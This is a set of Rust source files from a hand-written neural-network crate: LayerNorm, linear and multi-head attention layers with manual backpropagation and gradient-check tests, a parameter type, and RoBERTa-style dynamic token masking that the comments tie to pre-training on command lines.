    pub fn backward(&mut self, cache: &LayerNormCache, dy: &Matrix) -> Matrix {
        let (n, d) = dy.shape();
        let gamma = self.gamma.value.row(0).to_vec();
        let mut dx = Matrix::zeros(n, d);
        for r in 0..n {
            let dyr = dy.row(r);
            let xh = cache.xhat.row(r);
            // Parameter grads.
            {
                let gg = self.gamma.grad.row_mut(0);
                for c in 0..d {
                    gg[c] += dyr[c] * xh[c];
                }
            }
            {
                let bg = self.beta.grad.row_mut(0);
                for c in 0..d {
                    bg[c] += dyr[c];
                }
            }
            // dxhat = dy * gamma
            let dxhat: Vec<f32> = (0..d).map(|c| dyr[c] * gamma[c]).collect();
            let sum_dxhat: f32 = dxhat.iter().sum();
            let sum_dxhat_xhat: f32 = dxhat.iter().zip(xh).map(|(a, b)| a * b).sum();
            let istd = cache.inv_std[r];
            for c in 0..d {
                dx[(r, c)] =
                    istd / d as f32 * (d as f32 * dxhat[c] - sum_dxhat - xh[c] * sum_dxhat_xhat);
            }
        }
        dx
    }

    /// Visits `(γ, β)` for the optimizer.
    pub fn visit_params(&mut self, f: &mut impl FnMut(&mut Param)) {
        f(&mut self.gamma);
        f(&mut self.beta);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use linalg::rng::randn;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn loss(y: &Matrix) -> f32 {
        // Weighted quadratic so gradients differ per element.
        y.as_slice()
            .iter()
            .enumerate()
            .map(|(i, v)| (i as f32 * 0.1 + 0.5) * v * v)
            .sum::<f32>()
            * 0.5
    }

    fn dloss(y: &Matrix) -> Matrix {
        Matrix::from_fn(y.rows(), y.cols(), |r, c| {
            let i = r * y.cols() + c;
            (i as f32 * 0.1 + 0.5) * y[(r, c)]
        })
    }

    #[test]
    fn output_rows_are_normalized() {
        let ln = LayerNorm::new(8);
        let mut rng = StdRng::seed_from_u64(1);
        let x = randn(&mut rng, 4, 8, 3.0);
        let (y, _) = ln.forward(&x);
        for r in 0..4 {
            let row = y.row(r);
            let mean = row.iter().sum::<f32>() / 8.0;
            let var = row.iter().map(|v| (v - mean) * (v - mean)).sum::<f32>() / 8.0;
            assert!(mean.abs() < 1e-4, "row mean {mean}");
            assert!((var - 1.0).abs() < 1e-2, "row var {var}");
        }
    }

    #[test]
    fn gamma_beta_transform_output() {
        let mut ln = LayerNorm::new(4);
        ln.gamma.value = Matrix::from_rows(&[&[2.0, 2.0, 2.0, 2.0]]);
        ln.beta.value = Matrix::from_rows(&[&[1.0, 1.0, 1.0, 1.0]]);
        let x = Matrix::from_rows(&[&[1.0, 2.0, 3.0, 4.0]]);
        let (y, _) = ln.forward(&x);
        let mean = y.row(0).iter().sum::<f32>() / 4.0;
        assert!((mean - 1.0).abs() < 1e-4, "shifted mean {mean}");
    }

    #[test]
    fn gradient_check_input() {
        let mut ln = LayerNorm::new(6);
        let mut rng = StdRng::seed_from_u64(2);
        // Non-trivial gamma so the test exercises the scale path.
        ln.gamma.value = randn(&mut rng, 1, 6, 1.0).map(|v| 1.0 + 0.3 * v);
        let x = randn(&mut rng, 3, 6, 1.5);
        let (y, cache) = ln.forward(&x);
        let dx = ln.backward(&cache, &dloss(&y));

        let eps = 1e-2;
        for idx in [(0usize, 0usize), (1, 3), (2, 5)] {
            let mut xp = x.clone();
            xp[idx] += eps;
            let (yp, _) = ln.forward(&xp);
            let mut xm = x.clone();
            xm[idx] -= eps;
            let (ym, _) = ln.forward(&xm);
            let numeric = (loss(&yp) - loss(&ym)) / (2.0 * eps);
            assert!(
                (numeric - dx[idx]).abs() < 3e-2 * (1.0 + numeric.abs()),
                "dx{idx:?}: numeric {numeric} vs analytic {}",
                dx[idx]
            );
        }
    }

    #[test]
    fn gradient_check_gamma_beta() {
        let mut ln = LayerNorm::new(5);
        let mut rng = StdRng::seed_from_u64(3);
        let x = randn(&mut rng, 4, 5, 1.0);
        let (y, cache) = ln.forward(&x);
        let _ = ln.backward(&cache, &dloss(&y));

        let eps = 1e-2;
        for c in [0usize, 2, 4] {
            // Gamma.
            let orig = ln.gamma.value[(0, c)];
            ln.gamma.value[(0, c)] = orig + eps;
            let (yp, _) = ln.forward(&x);
            ln.gamma.value[(0, c)] = orig - eps;
            let (ym, _) = ln.forward(&x);
            ln.gamma.value[(0, c)] = orig;
            let numeric = (loss(&yp) - loss(&ym)) / (2.0 * eps);
            assert!(
                (numeric - ln.gamma.grad[(0, c)]).abs() < 3e-2 * (1.0 + numeric.abs()),
                "dγ[{c}]"
            );
            // Beta.
            let orig = ln.beta.value[(0, c)];
            ln.beta.value[(0, c)] = orig + eps;
            let (yp, _) = ln.forward(&x);
            ln.beta.value[(0, c)] = orig - eps;
            let (ym, _) = ln.forward(&x);
            ln.beta.value[(0, c)] = orig;
            let numeric = (loss(&yp) - loss(&ym)) / (2.0 * eps);
            assert!(
                (numeric - ln.beta.grad[(0, c)]).abs() < 3e-2 * (1.0 + numeric.abs()),
                "dβ[{c}]"
            );
        }
    }
}
