//! RoBERTa-style dynamic masking for MLM pre-training.
//!
//! Paper, Section II-B: "at each pre-training iteration, each token in
//! the training command lines will be replaced with a `[MASK]` token, in
//! a probability of `q`" — the masking is re-drawn every epoch
//! (dynamic, as in RoBERTa). We follow BERT/RoBERTa's 80/10/10 rule for
//! the selected positions.

use crate::loss::IGNORE_INDEX;
use rand::Rng;

/// Fixed special-token ids, mirroring `bpe::SpecialToken`.
/// (Kept numeric here so `nn` stays independent of the tokenizer crate.)
pub const PAD_ID: u32 = 0;
/// `[UNK]` id.
pub const UNK_ID: u32 = 1;
/// `[CLS]` id.
pub const CLS_ID: u32 = 2;
/// `[SEP]` id.
pub const SEP_ID: u32 = 3;
/// `[MASK]` id.
pub const MASK_ID: u32 = 4;

/// Number of reserved special ids (random replacements avoid them).
pub const FIRST_ORDINARY_ID: u32 = 5;

/// A masked training example.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MaskedExample {
    /// Model input ids (some replaced by `[MASK]`/random).
    pub input: Vec<u32>,
    /// Per-position reconstruction targets; [`IGNORE_INDEX`] where no
    /// loss applies.
    pub targets: Vec<u32>,
}

impl MaskedExample {
    /// Number of positions that contribute to the MLM loss.
    pub fn masked_count(&self) -> usize {
        self.targets.iter().filter(|&&t| t != IGNORE_INDEX).count()
    }
}

/// Applies dynamic masking to `ids` with masking probability `q`.
///
/// Special tokens (`[CLS]`, `[SEP]`, `[PAD]`) are never masked. Of the
/// selected positions, 80% become `[MASK]`, 10% a random ordinary token,
/// 10% stay unchanged (all three keep their reconstruction target).
///
/// # Panics
///
/// Panics if `q` is not in `[0, 1]` or `vocab_size <= FIRST_ORDINARY_ID`.
pub fn mask_tokens<R: Rng + ?Sized>(
    rng: &mut R,
    ids: &[u32],
    q: f64,
    vocab_size: usize,
) -> MaskedExample {
    assert!((0.0..=1.0).contains(&q), "q must be a probability, got {q}");
    assert!(
        vocab_size > FIRST_ORDINARY_ID as usize,
        "vocabulary must contain ordinary tokens"
    );
    let mut input = ids.to_vec();
    let mut targets = vec![IGNORE_INDEX; ids.len()];
    for (i, &id) in ids.iter().enumerate() {
        if id < FIRST_ORDINARY_ID {
            continue; // never mask specials
        }
        if rng.gen_bool(q) {
            targets[i] = id;
            let roll: f64 = rng.gen();
            input[i] = if roll < 0.8 {
                MASK_ID
            } else if roll < 0.9 {
                rng.gen_range(FIRST_ORDINARY_ID..vocab_size as u32)
            } else {
                id
            };
        }
    }
    MaskedExample { input, targets }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn specials_are_never_masked() {
        let mut rng = StdRng::seed_from_u64(1);
        let ids = vec![CLS_ID, 10, 11, 12, SEP_ID];
        for _ in 0..200 {
            let ex = mask_tokens(&mut rng, &ids, 1.0, 100);
            assert_eq!(ex.input[0], CLS_ID);
            assert_eq!(ex.input[4], SEP_ID);
            assert_eq!(ex.targets[0], IGNORE_INDEX);
            assert_eq!(ex.targets[4], IGNORE_INDEX);
        }
    }

    #[test]
    fn q_one_masks_all_ordinary() {
        let mut rng = StdRng::seed_from_u64(2);
        let ids = vec![CLS_ID, 10, 11, SEP_ID];
        let ex = mask_tokens(&mut rng, &ids, 1.0, 100);
        assert_eq!(ex.masked_count(), 2);
        assert_eq!(ex.targets[1], 10);
        assert_eq!(ex.targets[2], 11);
    }

    #[test]
    fn q_zero_masks_nothing() {
        let mut rng = StdRng::seed_from_u64(3);
        let ids = vec![CLS_ID, 10, 11, SEP_ID];
        let ex = mask_tokens(&mut rng, &ids, 0.0, 100);
        assert_eq!(ex.input, ids);
        assert_eq!(ex.masked_count(), 0);
    }

    #[test]
    fn eighty_ten_ten_split() {
        let mut rng = StdRng::seed_from_u64(4);
        let ids: Vec<u32> = (10..1010).collect();
        let ex = mask_tokens(&mut rng, &ids, 1.0, 2000);
        let masked = ex.input.iter().filter(|&&t| t == MASK_ID).count();
        let kept = ex.input.iter().zip(&ids).filter(|(a, b)| a == b).count();
        // 80% mask / ~10% kept; random replacement may coincide rarely.
        assert!((750..850).contains(&masked), "mask count {masked}");
        assert!((70..140).contains(&kept), "kept count {kept}");
    }

    #[test]
    fn masking_rate_tracks_q() {
        let mut rng = StdRng::seed_from_u64(5);
        let ids: Vec<u32> = (10..2010).collect();
        let ex = mask_tokens(&mut rng, &ids, 0.15, 4000);
        let rate = ex.masked_count() as f64 / 2000.0;
        assert!((0.10..0.20).contains(&rate), "rate {rate}");
    }

    #[test]
    fn dynamic_masking_differs_between_draws() {
        let mut rng = StdRng::seed_from_u64(6);
        let ids: Vec<u32> = (10..60).collect();
        let a = mask_tokens(&mut rng, &ids, 0.3, 100);
        let b = mask_tokens(&mut rng, &ids, 0.3, 100);
        assert_ne!(a, b, "masking should be re-drawn each call");
    }

    #[test]
    #[should_panic(expected = "probability")]
    fn invalid_q_panics() {
        let mut rng = StdRng::seed_from_u64(7);
        let _ = mask_tokens(&mut rng, &[10], 1.5, 100);
    }
}
