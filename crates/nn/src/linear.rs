//! Fully connected layer with manual backprop.

use crate::param::Param;
use linalg::{rng::randn, Matrix};
use rand::Rng;

/// `y = x·W + b` with `x: (n, in)`, `W: (in, out)`, `b: (1, out)`.
#[derive(Debug, Clone)]
pub struct Linear {
    /// Weight matrix.
    pub w: Param,
    /// Bias row vector.
    pub b: Param,
}

/// Forward cache for [`Linear::backward`]: the input.
#[derive(Debug, Clone)]
pub struct LinearCache {
    x: Matrix,
}

impl Linear {
    /// Xavier-style initialization: `N(0, 1/in)` weights, zero bias.
    pub fn new<R: Rng + ?Sized>(rng: &mut R, input: usize, output: usize) -> Self {
        let std = (1.0 / input as f32).sqrt();
        Linear {
            w: Param::new(randn(rng, input, output, std)),
            b: Param::new(Matrix::zeros(1, output)),
        }
    }

    /// Kaiming (He) initialization: `N(0, 2/in)` — the paper initializes
    /// the classification head "by Kaiming's method".
    pub fn new_kaiming<R: Rng + ?Sized>(rng: &mut R, input: usize, output: usize) -> Self {
        let std = (2.0 / input as f32).sqrt();
        Linear {
            w: Param::new(randn(rng, input, output, std)),
            b: Param::new(Matrix::zeros(1, output)),
        }
    }

    /// Input width.
    pub fn input_dim(&self) -> usize {
        self.w.value.rows()
    }

    /// Output width.
    pub fn output_dim(&self) -> usize {
        self.w.value.cols()
    }

    /// Inference-only forward: no cache, no input clone. Row-wise ops
    /// only, so results are bit-identical to [`Linear::forward`]
    /// whether rows arrive one sequence at a time or batched.
    pub fn apply(&self, x: &Matrix) -> Matrix {
        let mut y = x.matmul(&self.w.value);
        for r in 0..y.rows() {
            let row = y.row_mut(r);
            for (v, b) in row.iter_mut().zip(self.b.value.row(0)) {
                *v += b;
            }
        }
        y
    }

    /// Forward pass; the cache feeds [`Linear::backward`].
    pub fn forward(&self, x: &Matrix) -> (Matrix, LinearCache) {
        let y = self.apply(x);
        (y, LinearCache { x: x.clone() })
    }

    /// Backward pass: accumulates `dW`, `db`, returns `dx`.
    pub fn backward(&mut self, cache: &LinearCache, dy: &Matrix) -> Matrix {
        // dW += xᵀ·dy
        let dw = cache.x.transpose().matmul(dy);
        self.w.grad += &dw;
        // db += column sums of dy
        for r in 0..dy.rows() {
            let row = dy.row(r);
            let bg = self.b.grad.row_mut(0);
            for (g, d) in bg.iter_mut().zip(row) {
                *g += d;
            }
        }
        // dx = dy·Wᵀ
        dy.matmul_transposed(&self.w.value)
    }

    /// Visits `(weight, bias)` for the optimizer, in stable order.
    pub fn visit_params(&mut self, f: &mut impl FnMut(&mut Param)) {
        f(&mut self.w);
        f(&mut self.b);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn loss(y: &Matrix) -> f32 {
        // Simple quadratic loss: ½‖y‖².
        0.5 * y.as_slice().iter().map(|v| v * v).sum::<f32>()
    }

    #[test]
    fn forward_shape_and_bias() {
        let mut rng = StdRng::seed_from_u64(1);
        let mut lin = Linear::new(&mut rng, 3, 2);
        lin.b.value = Matrix::from_rows(&[&[10.0, 20.0]]);
        let x = Matrix::zeros(4, 3);
        let (y, _) = lin.forward(&x);
        assert_eq!(y.shape(), (4, 2));
        assert_eq!(y[(0, 0)], 10.0);
        assert_eq!(y[(3, 1)], 20.0);
    }

    #[test]
    fn gradient_check_weights() {
        let mut rng = StdRng::seed_from_u64(2);
        let mut lin = Linear::new(&mut rng, 4, 3);
        let x = randn(&mut rng, 5, 4, 1.0);
        let (y, cache) = lin.forward(&x);
        // dL/dy = y for quadratic loss.
        let _ = lin.backward(&cache, &y);

        let eps = 1e-2;
        for idx in [(0usize, 0usize), (1, 2), (3, 1)] {
            let orig = lin.w.value[idx];
            lin.w.value[idx] = orig + eps;
            let (yp, _) = lin.forward(&x);
            lin.w.value[idx] = orig - eps;
            let (ym, _) = lin.forward(&x);
            lin.w.value[idx] = orig;
            let numeric = (loss(&yp) - loss(&ym)) / (2.0 * eps);
            let analytic = lin.w.grad[idx];
            assert!(
                (numeric - analytic).abs() < 2e-2 * (1.0 + numeric.abs()),
                "dW{idx:?}: numeric {numeric} vs analytic {analytic}"
            );
        }
    }

    #[test]
    fn gradient_check_bias_and_input() {
        let mut rng = StdRng::seed_from_u64(3);
        let mut lin = Linear::new(&mut rng, 3, 2);
        let x = randn(&mut rng, 4, 3, 1.0);
        let (y, cache) = lin.forward(&x);
        let dx = lin.backward(&cache, &y);

        let eps = 1e-2;
        // Bias grad.
        let orig = lin.b.value[(0, 1)];
        lin.b.value[(0, 1)] = orig + eps;
        let (yp, _) = lin.forward(&x);
        lin.b.value[(0, 1)] = orig - eps;
        let (ym, _) = lin.forward(&x);
        lin.b.value[(0, 1)] = orig;
        let numeric = (loss(&yp) - loss(&ym)) / (2.0 * eps);
        assert!((numeric - lin.b.grad[(0, 1)]).abs() < 2e-2 * (1.0 + numeric.abs()));

        // Input grad.
        let mut x2 = x.clone();
        let orig = x2[(2, 1)];
        x2[(2, 1)] = orig + eps;
        let (yp, _) = lin.forward(&x2);
        x2[(2, 1)] = orig - eps;
        let (ym, _) = lin.forward(&x2);
        let numeric = (loss(&yp) - loss(&ym)) / (2.0 * eps);
        assert!((numeric - dx[(2, 1)]).abs() < 2e-2 * (1.0 + numeric.abs()));
    }

    #[test]
    fn grads_accumulate_across_calls() {
        let mut rng = StdRng::seed_from_u64(4);
        let mut lin = Linear::new(&mut rng, 2, 2);
        let x = randn(&mut rng, 3, 2, 1.0);
        let (y, cache) = lin.forward(&x);
        let _ = lin.backward(&cache, &y);
        let first = lin.w.grad.clone();
        let _ = lin.backward(&cache, &y);
        let doubled = &first + &first;
        for (a, b) in lin.w.grad.as_slice().iter().zip(doubled.as_slice()) {
            assert!((a - b).abs() < 1e-4);
        }
    }

    #[test]
    fn kaiming_has_larger_variance_than_xavier() {
        let mut rng = StdRng::seed_from_u64(5);
        let xavier = Linear::new(&mut rng, 256, 8);
        let kaiming = Linear::new_kaiming(&mut rng, 256, 8);
        let var = |m: &Matrix| {
            m.as_slice().iter().map(|v| v * v).sum::<f32>() / m.as_slice().len() as f32
        };
        assert!(var(&kaiming.w.value) > 1.5 * var(&xavier.w.value));
    }

    #[test]
    fn visit_params_order() {
        let mut rng = StdRng::seed_from_u64(6);
        let mut lin = Linear::new(&mut rng, 2, 3);
        let mut shapes = Vec::new();
        lin.visit_params(&mut |p| shapes.push(p.value.shape()));
        assert_eq!(shapes, vec![(2, 3), (1, 3)]);
    }
}
