//! Trainable parameter: value + accumulated gradient.

use linalg::Matrix;

/// A parameter tensor and its gradient accumulator.
///
/// Layers expose their parameters through `visit_params`-style methods so
/// optimizers can walk them in a stable order.
#[derive(Debug, Clone, PartialEq)]
pub struct Param {
    /// Current value.
    pub value: Matrix,
    /// Accumulated gradient (same shape as `value`).
    pub grad: Matrix,
}

impl Param {
    /// Wraps a value with a zero gradient.
    pub fn new(value: Matrix) -> Self {
        let grad = Matrix::zeros(value.rows(), value.cols());
        Param { value, grad }
    }

    /// Resets the gradient to zero.
    pub fn zero_grad(&mut self) {
        self.grad.as_mut_slice().fill(0.0);
    }

    /// Number of scalar parameters.
    pub fn len(&self) -> usize {
        self.value.as_slice().len()
    }

    /// `true` if the tensor is empty.
    pub fn is_empty(&self) -> bool {
        self.value.as_slice().is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn new_param_has_zero_grad() {
        let p = Param::new(Matrix::full(2, 3, 1.5));
        assert_eq!(p.grad, Matrix::zeros(2, 3));
        assert_eq!(p.len(), 6);
        assert!(!p.is_empty());
    }

    #[test]
    fn zero_grad_clears() {
        let mut p = Param::new(Matrix::zeros(2, 2));
        p.grad = Matrix::full(2, 2, 3.0);
        p.zero_grad();
        assert!(p.grad.as_slice().iter().all(|&x| x == 0.0));
    }
}
