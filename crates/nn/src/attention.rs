//! Multi-head self-attention with manual backprop.

use crate::linear::{Linear, LinearCache};
use linalg::ops::softmax_rows_inplace;
use linalg::Matrix;
use rand::Rng;

/// Multi-head scaled-dot-product self-attention over one sequence
/// `(seq_len, hidden)`.
#[derive(Debug, Clone)]
pub struct MultiHeadAttention {
    wq: Linear,
    wk: Linear,
    wv: Linear,
    wo: Linear,
    heads: usize,
    head_dim: usize,
}

/// Forward cache for [`MultiHeadAttention::backward`].
#[derive(Debug)]
pub struct AttentionCache {
    q: Matrix,
    k: Matrix,
    v: Matrix,
    /// Per-head post-softmax attention probabilities `(s, s)`.
    probs: Vec<Matrix>,
    cq: LinearCache,
    ck: LinearCache,
    cv: LinearCache,
    co: LinearCache,
}

impl MultiHeadAttention {
    /// Creates attention with `heads` heads over `hidden` channels.
    ///
    /// # Panics
    ///
    /// Panics if `hidden % heads != 0`.
    pub fn new<R: Rng + ?Sized>(rng: &mut R, hidden: usize, heads: usize) -> Self {
        assert_eq!(hidden % heads, 0, "hidden must divide by heads");
        MultiHeadAttention {
            wq: Linear::new(rng, hidden, hidden),
            wk: Linear::new(rng, hidden, hidden),
            wv: Linear::new(rng, hidden, hidden),
            wo: Linear::new(rng, hidden, hidden),
            heads,
            head_dim: hidden / heads,
        }
    }

    /// Returns the attention probabilities of the last forward pass'
    /// cache, one `(s, s)` matrix per head — useful for inspection.
    pub fn probs<'c>(&self, cache: &'c AttentionCache) -> &'c [Matrix] {
        &cache.probs
    }

    /// Forward pass over one sequence `x: (s, hidden)`.
    pub fn forward(&self, x: &Matrix) -> (Matrix, AttentionCache) {
        let s = x.rows();
        let (q, cq) = self.wq.forward(x);
        let (k, ck) = self.wk.forward(x);
        let (v, cv) = self.wv.forward(x);
        let scale = 1.0 / (self.head_dim as f32).sqrt();

        let mut ctx = Matrix::zeros(s, self.heads * self.head_dim);
        let mut probs = Vec::with_capacity(self.heads);
        for h in 0..self.heads {
            let off = h * self.head_dim;
            let qh = q.col_block(off, self.head_dim);
            let kh = k.col_block(off, self.head_dim);
            let vh = v.col_block(off, self.head_dim);
            let mut scores = qh.matmul_transposed(&kh);
            scores.map_inplace(|v| v * scale);
            softmax_rows_inplace(&mut scores);
            let ctx_h = scores.matmul(&vh);
            ctx.set_col_block(off, &ctx_h);
            probs.push(scores);
        }
        let (out, co) = self.wo.forward(&ctx);
        (
            out,
            AttentionCache {
                q,
                k,
                v,
                probs,
                cq,
                ck,
                cv,
                co,
            },
        )
    }

    /// Inference-only forward over one sequence: the exact float
    /// operations of [`MultiHeadAttention::forward`], skipping the
    /// backward caches.
    pub fn apply(&self, x: &Matrix) -> Matrix {
        let q = self.wq.apply(x);
        let k = self.wk.apply(x);
        let v = self.wv.apply(x);
        let scale = 1.0 / (self.head_dim as f32).sqrt();
        let mut ctx = Matrix::zeros(x.rows(), self.heads * self.head_dim);
        for h in 0..self.heads {
            let off = h * self.head_dim;
            let qh = q.col_block(off, self.head_dim);
            let kh = k.col_block(off, self.head_dim);
            let vh = v.col_block(off, self.head_dim);
            let mut scores = qh.matmul_transposed(&kh);
            scores.map_inplace(|s| s * scale);
            softmax_rows_inplace(&mut scores);
            ctx.set_col_block(off, &scores.matmul(&vh));
        }
        self.wo.apply(&ctx)
    }

    /// Inference-only forward over `nseq = x.rows() / seq_len`
    /// equal-length sequences stacked row-wise.
    ///
    /// The Q/K/V/O projections run as single large matmuls over the
    /// whole stack (the O(s·d²) bulk of the layer); the O(s²·d)
    /// attention core runs per sequence on row blocks, so no token
    /// attends across sequence boundaries and no padding mask is
    /// needed. Every per-row float operation matches
    /// [`MultiHeadAttention::forward`] exactly, making the batched
    /// output bit-identical to sequence-at-a-time forwards.
    ///
    /// # Panics
    ///
    /// Panics if `x.rows()` is not a multiple of `seq_len`.
    pub fn apply_batched(&self, x: &Matrix, seq_len: usize) -> Matrix {
        assert!(seq_len > 0, "seq_len must be positive");
        assert_eq!(
            x.rows() % seq_len,
            0,
            "stacked rows {} not a multiple of seq_len {seq_len}",
            x.rows()
        );
        let nseq = x.rows() / seq_len;
        if nseq == 1 {
            return self.apply(x);
        }
        let q = self.wq.apply(x);
        let k = self.wk.apply(x);
        let v = self.wv.apply(x);
        let scale = 1.0 / (self.head_dim as f32).sqrt();
        let width = self.heads * self.head_dim;

        let mut ctx = Matrix::zeros(x.rows(), width);
        {
            // Per-sequence row chunks of ctx: sequences are independent,
            // so workers write disjoint rows. The fan-out (and its
            // inline single-chunk fast path) is linalg's shared harness.
            let threads = std::thread::available_parallelism()
                .map(|p| p.get())
                .unwrap_or(1)
                .min(nseq);
            let seqs_per = nseq.div_ceil(threads);
            let heads = self.heads;
            let head_dim = self.head_dim;
            let (q, k, v) = (&q, &k, &v);
            linalg::ops::parallel_row_chunks(
                ctx.as_mut_slice(),
                width,
                seqs_per * seq_len,
                |start_row, chunk| {
                    let seq_start = start_row / seq_len;
                    let nlocal = chunk.len() / (seq_len * width);
                    for local in 0..nlocal {
                        let row0 = (seq_start + local) * seq_len;
                        for h in 0..heads {
                            let off = h * head_dim;
                            // Contiguous per-sequence, per-head views, then
                            // the same matmuls the single-sequence pass runs.
                            let qh = q.sub_block(row0, seq_len, off, head_dim);
                            let kh = k.sub_block(row0, seq_len, off, head_dim);
                            let vh = v.sub_block(row0, seq_len, off, head_dim);
                            let mut scores = qh.matmul_transposed(&kh);
                            scores.map_inplace(|s| s * scale);
                            softmax_rows_inplace(&mut scores);
                            let ctx_h = scores.matmul(&vh);
                            for r in 0..seq_len {
                                let dst_start = (local * seq_len + r) * width + off;
                                chunk[dst_start..dst_start + head_dim]
                                    .copy_from_slice(ctx_h.row(r));
                            }
                        }
                    }
                },
            );
        }
        self.wo.apply(&ctx)
    }

    /// Backward pass: accumulates all projection grads, returns `dx`.
    pub fn backward(&mut self, cache: &AttentionCache, dout: &Matrix) -> Matrix {
        let s = dout.rows();
        let scale = 1.0 / (self.head_dim as f32).sqrt();
        let dctx = self.wo.backward(&cache.co, dout);

        let mut dq = Matrix::zeros(s, self.heads * self.head_dim);
        let mut dk = Matrix::zeros(s, self.heads * self.head_dim);
        let mut dv = Matrix::zeros(s, self.heads * self.head_dim);

        for h in 0..self.heads {
            let off = h * self.head_dim;
            let dctx_h = dctx.col_block(off, self.head_dim);
            let probs = &cache.probs[h];
            let kh = cache.k.col_block(off, self.head_dim);
            let qh = cache.q.col_block(off, self.head_dim);
            let vh = cache.v.col_block(off, self.head_dim);

            // dV_h = probsᵀ · dctx_h
            let dvh = probs.transpose().matmul(&dctx_h);
            dv.set_col_block(off, &dvh);

            // dprobs = dctx_h · V_hᵀ
            let dprobs = dctx_h.matmul_transposed(&vh);

            // Softmax backward per row: ds = p ⊙ (dp − Σ dp⊙p).
            let mut dscores = Matrix::zeros(s, s);
            for r in 0..s {
                let p = probs.row(r);
                let dp = dprobs.row(r);
                let dot: f32 = p.iter().zip(dp).map(|(a, b)| a * b).sum();
                let out = dscores.row_mut(r);
                for c in 0..s {
                    out[c] = p[c] * (dp[c] - dot);
                }
            }
            dscores.map_inplace(|v| v * scale);

            // dQ_h = dscores · K_h ;  dK_h = dscoresᵀ · Q_h
            dq.set_col_block(off, &dscores.matmul(&kh));
            dk.set_col_block(off, &dscores.transpose().matmul(&qh));
        }

        let dx_q = self.wq.backward(&cache.cq, &dq);
        let dx_k = self.wk.backward(&cache.ck, &dk);
        let dx_v = self.wv.backward(&cache.cv, &dv);
        let mut dx = dx_q;
        dx += &dx_k;
        dx += &dx_v;
        dx
    }

    /// Visits all projection parameters in stable order.
    pub fn visit_params(&mut self, f: &mut impl FnMut(&mut crate::param::Param)) {
        self.wq.visit_params(f);
        self.wk.visit_params(f);
        self.wv.visit_params(f);
        self.wo.visit_params(f);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use linalg::rng::randn;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn loss(y: &Matrix) -> f32 {
        0.5 * y.as_slice().iter().map(|v| v * v).sum::<f32>()
    }

    #[test]
    fn forward_shape() {
        let mut rng = StdRng::seed_from_u64(1);
        let attn = MultiHeadAttention::new(&mut rng, 16, 4);
        let x = randn(&mut rng, 5, 16, 1.0);
        let (y, cache) = attn.forward(&x);
        assert_eq!(y.shape(), (5, 16));
        assert_eq!(attn.probs(&cache).len(), 4);
        assert_eq!(attn.probs(&cache)[0].shape(), (5, 5));
    }

    #[test]
    fn attention_rows_sum_to_one() {
        let mut rng = StdRng::seed_from_u64(2);
        let attn = MultiHeadAttention::new(&mut rng, 8, 2);
        let x = randn(&mut rng, 6, 8, 1.0);
        let (_, cache) = attn.forward(&x);
        for p in attn.probs(&cache) {
            for r in 0..p.rows() {
                let sum: f32 = p.row(r).iter().sum();
                assert!((sum - 1.0).abs() < 1e-4);
            }
        }
    }

    #[test]
    fn gradient_check_input() {
        let mut rng = StdRng::seed_from_u64(3);
        let mut attn = MultiHeadAttention::new(&mut rng, 8, 2);
        let x = randn(&mut rng, 4, 8, 0.8);
        let (y, cache) = attn.forward(&x);
        let dx = attn.backward(&cache, &y);

        let eps = 1e-2;
        for idx in [(0usize, 0usize), (1, 5), (3, 7), (2, 3)] {
            let mut xp = x.clone();
            xp[idx] += eps;
            let (yp, _) = attn.forward(&xp);
            let mut xm = x.clone();
            xm[idx] -= eps;
            let (ym, _) = attn.forward(&xm);
            let numeric = (loss(&yp) - loss(&ym)) / (2.0 * eps);
            assert!(
                (numeric - dx[idx]).abs() < 5e-2 * (1.0 + numeric.abs()),
                "dx{idx:?}: numeric {numeric} vs analytic {}",
                dx[idx]
            );
        }
    }

    #[test]
    fn gradient_check_query_weight() {
        let mut rng = StdRng::seed_from_u64(4);
        let mut attn = MultiHeadAttention::new(&mut rng, 8, 2);
        let x = randn(&mut rng, 4, 8, 0.8);
        let (y, cache) = attn.forward(&x);
        let _ = attn.backward(&cache, &y);

        let eps = 1e-2;
        for idx in [(0usize, 0usize), (3, 6)] {
            let orig = attn.wq.w.value[idx];
            attn.wq.w.value[idx] = orig + eps;
            let (yp, _) = attn.forward(&x);
            attn.wq.w.value[idx] = orig - eps;
            let (ym, _) = attn.forward(&x);
            attn.wq.w.value[idx] = orig;
            let numeric = (loss(&yp) - loss(&ym)) / (2.0 * eps);
            let analytic = attn.wq.w.grad[idx];
            assert!(
                (numeric - analytic).abs() < 5e-2 * (1.0 + numeric.abs()),
                "dWq{idx:?}: numeric {numeric} vs analytic {analytic}"
            );
        }
    }

    #[test]
    fn gradient_check_output_weight() {
        let mut rng = StdRng::seed_from_u64(5);
        let mut attn = MultiHeadAttention::new(&mut rng, 8, 2);
        let x = randn(&mut rng, 3, 8, 0.8);
        let (y, cache) = attn.forward(&x);
        let _ = attn.backward(&cache, &y);

        let eps = 1e-2;
        let idx = (2usize, 4usize);
        let orig = attn.wo.w.value[idx];
        attn.wo.w.value[idx] = orig + eps;
        let (yp, _) = attn.forward(&x);
        attn.wo.w.value[idx] = orig - eps;
        let (ym, _) = attn.forward(&x);
        attn.wo.w.value[idx] = orig;
        let numeric = (loss(&yp) - loss(&ym)) / (2.0 * eps);
        assert!((numeric - attn.wo.w.grad[idx]).abs() < 5e-2 * (1.0 + numeric.abs()));
    }

    #[test]
    fn single_token_sequence_works() {
        let mut rng = StdRng::seed_from_u64(6);
        let mut attn = MultiHeadAttention::new(&mut rng, 8, 2);
        let x = randn(&mut rng, 1, 8, 1.0);
        let (y, cache) = attn.forward(&x);
        assert_eq!(y.shape(), (1, 8));
        // Softmax over a single position is 1.0.
        assert!((attn.probs(&cache)[0][(0, 0)] - 1.0).abs() < 1e-6);
        let dx = attn.backward(&cache, &y);
        assert_eq!(dx.shape(), (1, 8));
    }

    #[test]
    fn visit_params_counts_eight_tensors() {
        let mut rng = StdRng::seed_from_u64(7);
        let mut attn = MultiHeadAttention::new(&mut rng, 8, 2);
        let mut n = 0;
        attn.visit_params(&mut |_| n += 1);
        assert_eq!(n, 8); // 4 linears × (W, b)
    }
}
